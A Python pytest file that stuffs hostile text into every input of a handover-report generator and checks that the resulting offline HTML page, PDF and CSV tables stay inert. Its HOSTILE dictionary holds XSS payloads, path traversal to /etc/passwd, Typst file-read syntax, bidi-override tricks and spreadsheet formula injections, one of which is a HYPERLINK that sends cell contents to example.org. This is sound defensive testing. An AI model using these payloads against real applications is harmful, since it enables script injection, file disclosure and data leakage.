"""The page that was handed over, opened from the disk in a real browser without a network, whatever was typed into it."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from PIL import Image

from restonb.handover import hand_over
from restonb.handover.report import clean
from restonb.record import (
    Record,
    enter_disturb,
    enter_joint,
    enter_note,
    enter_part,
    enter_photo,
    enter_readings,
    enter_run,
    enter_work,
)
from restonb.stated import Build

pytestmark = pytest.mark.browser

AXE = Path(__file__).parent / "vendor" / "axe.min.js"
SIZES = {"desktop": (1280, 900), "tablet": (820, 1180)}
HOSTILE = {
    "script": "<script>alert('ran')</script>",
    "picture": '"><img src=x onerror="alert(1)">',
    "drawing": "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>",
    "style": "</style></title></figure><style>*{display:none}</style>",
    "frame": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "path": "../../../../etc/passwd and C:\\Windows\\win.ini",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"click")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1|calc",
    "typeset": '#read("/etc/passwd") #panic("x") $x^2$ *bold* `raw` @label <label> #{1+1} \\u{41}',
    "entity": "&lt;b&gt; &amp; &#60;script&#62;",
    "control": "bell\x07 escape\x1b[31m back\x08space",
    "turned": "turned \u202egnp.exe\u202c and \u2066hidden\u2069 and zero\u200bwidth",
    "long": "w" * 400,
    "foreign": "Größe Ølmåling \u0394\u03a9 \u0416",
}


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory):
    """Every hostile text in every place where somebody can type one."""
    home = tmp_path_factory.mktemp("handed")
    build = Build.create(home / "build", HOSTILE["script"])
    for old in (build.folder / "specs").iterdir():
        old.unlink()
    quoted = {name: '"' + text.replace('"', '""') + '"' for name, text in HOSTILE.items()}
    (build.folder / "specs" / "drivetrain.csv").write_text(
        "sheet,characteristic,what,positions,nominal,lower,upper,wear_limit,unit,instrument,safety,source\n"
        + "".join(
            f"toy,c{n},{what},feet 4,,0,0.10,0.2,mm,feeler,yes,{what}\n"
            for n, what in enumerate(quoted[name] for name in HOSTILE if name != "control")
        ),
        encoding="utf-8",
    )
    (build.folder / "instruments.csv").write_text(
        "instrument,what,unit,resolution,error,expansion,last_check,source\n"
        f"feeler,{quoted['picture']},mm,0.01,0.005,,,{quoted['typeset']}\n",
        encoding="utf-8",
    )
    (build.folder / "joints.toml").write_text(
        f"[joints.gearbox]\nwhat = '''{HOSTILE['drawing']}'''\nsubsystem = 'drivetrain'\n[sheets]\ntoy = ['gearbox']\n",
        encoding="utf-8",
    )
    build = Build.open(build.folder)
    photo = home / "..%2f..%2fetc <script>alert(1)<%2fscript>.png"
    with Record.open(build) as record:
        for n, text in enumerate(HOSTILE.values()):
            enter_note(record, build, text, sheet="toy")
            enter_part(record, build, text, "ordered", note=text)
            enter_work(record, build, text, state="sent", sheet="toy", note=text)
            Image.new("RGB", (60, 40), (n * 9, 90, 90)).save(photo)
            enter_photo(record, build, photo, text, "toy")
        enter_joint(record, build, "gearbox", "tightened", why=HOSTILE["picture"])
        for n in range(len(HOSTILE) - 1):
            enter_readings(record, build, "toy", f"c{n}", {"1": "0.28", "2": "0.01", "3": "0.02", "4": "0.09"})
        head = record.head()
        assert head is not None
        enter_run(record, {
            "template": "drivetrain/toy", "sheet": "toy", "subsystem": "drivetrain", "state": "good", "folder": "",
            "head": {"seq": head.seq, "digest": head.digest}, "spec": {}, "seconds": 1.0,
            "filed": {
                "sheet": "toy", "decision": list(HOSTILE.values()), "cautions": list(HOSTILE.values()),
                "open": list(HOSTILE.values()), "verdicts": [], "readings": [],
                "numbers": {"n": {"value": 1.0, "unit": "mm", "what": HOSTILE["script"]}},
            },
        })  # fmt: skip
        enter_disturb(record, build, "gearbox", "loosened", HOSTILE["style"])
        return hand_over(build, record, home / "out")


@pytest.fixture(params=SIZES)
def opened(browser, made, request):
    """The page, opened by its file; what it asked for, what it said, and what it tried to do."""
    width, height = SIZES[request.param]
    context = browser.new_context(viewport={"width": width, "height": height}, offline=True)
    page = context.new_page()
    page.asked, page.said = [], []
    page.on("request", lambda r: page.asked.append(r.url))
    page.on("dialog", lambda d: (page.said.append(f"dialog: {d.message}"), d.dismiss()))
    page.on("console", lambda m: page.said.append(f"{m.type}: {m.text}"))
    page.on("pageerror", lambda e: page.said.append(f"error: {e}"))
    page.on("popup", lambda p: page.said.append("another window"))
    page.goto(made.html.as_uri())
    page.wait_for_load_state()
    yield page
    context.close()


def test_it_asks_for_nothing_and_runs_nothing(opened, made):
    opened.mouse.wheel(0, 100_000)
    opened.wait_for_timeout(300)
    outside = [url for url in opened.asked if url != made.html.as_uri() and not url.startswith("data:image/")]
    assert opened.asked
    assert outside == []
    assert opened.said == []
    assert opened.evaluate("() => document.scripts.length") == 0
    assert opened.evaluate("() => document.querySelectorAll('iframe, svg, object, embed, form, link').length") == 0
    assert opened.evaluate("() => document.styleSheets.length") == 1


def test_every_hostile_text_stands_there_as_it_was_typed(opened, tmp_path):
    opened.screenshot(path=tmp_path / "hostile.png", full_page=True)
    shown = "".join(opened.locator("body").inner_text().split())
    for name, text in HOSTILE.items():
        assert "".join(clean(text).split()) in shown, name
    assert "[U+202E]" in shown
    assert "\u202e" not in shown


def test_every_picture_is_seen(opened):
    sizes = opened.locator("img").evaluate_all("all => all.map(e => [e.complete, e.naturalWidth, e.naturalHeight])")
    assert len(sizes) > 12
    assert all(complete and wide and high for complete, wide, high in sizes)


def test_nothing_scrolls_sideways_and_all_is_wide_enough(opened):
    assert opened.evaluate("() => document.documentElement.scrollWidth <= innerWidth")


def test_nobody_is_kept_out(opened):
    """WCAG 2.2, levels A and AA, as far as axe can tell."""
    opened.evaluate(AXE.read_text(encoding="utf-8"))
    found = opened.evaluate(
        "() => axe.run(document, {runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice']})"
    )
    told = [f"{v['id']} ({v['impact']}): {n['html'][:160]}" for v in found["violations"] for n in v["nodes"][:3]]
    assert told == []
    assert len(found["passes"]) > 20


def test_it_can_be_printed(opened, tmp_path):
    out = tmp_path / "printed.pdf"
    out.write_bytes(opened.pdf(prefer_css_page_size=True, print_background=True))
    assert out.read_bytes().startswith(b"%PDF-")
    assert opened.said == []
    said = printed(out)
    for name in ("script", "path", "formula", "typeset"):
        assert "".join(HOSTILE[name].split()) in said, name


def test_the_pdf_says_the_same(made):
    said = printed(made.pdf)
    for name, text in HOSTILE.items():
        assert "".join(clean(text).split()) in said, name
    assert "root:" not in said


def printed(path: Path) -> str:
    """The text of a PDF without spaces, line breaks and the places where a long word may break."""
    tool = shutil.which("pdftotext")
    if tool is None:
        pytest.skip("pdftotext is not here")
    text = subprocess.run([tool, "-raw", str(path), "-"], capture_output=True, check=True).stdout.decode()
    return "".join(text.replace("\u200b", "").replace("\u00ad", "").split())


def test_no_cell_of_a_table_begins_a_formula(made):
    import csv

    cells = 0
    for path in (made.folder / "data" / "tables").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    cells += 1
                    text = cell.lstrip()
                    assert not text.startswith(("=", "@", "+", "|", "%", "\t", "\r")), (path.name, cell)
                    assert not text.startswith("-") or float(text) <= 0, (path.name, cell)
    assert cells > 1000
    whole = "".join(p.read_text(encoding="utf-8") for p in (made.folder / "data" / "tables").glob("*.csv"))
    assert "'=HYPERLINK" in whole
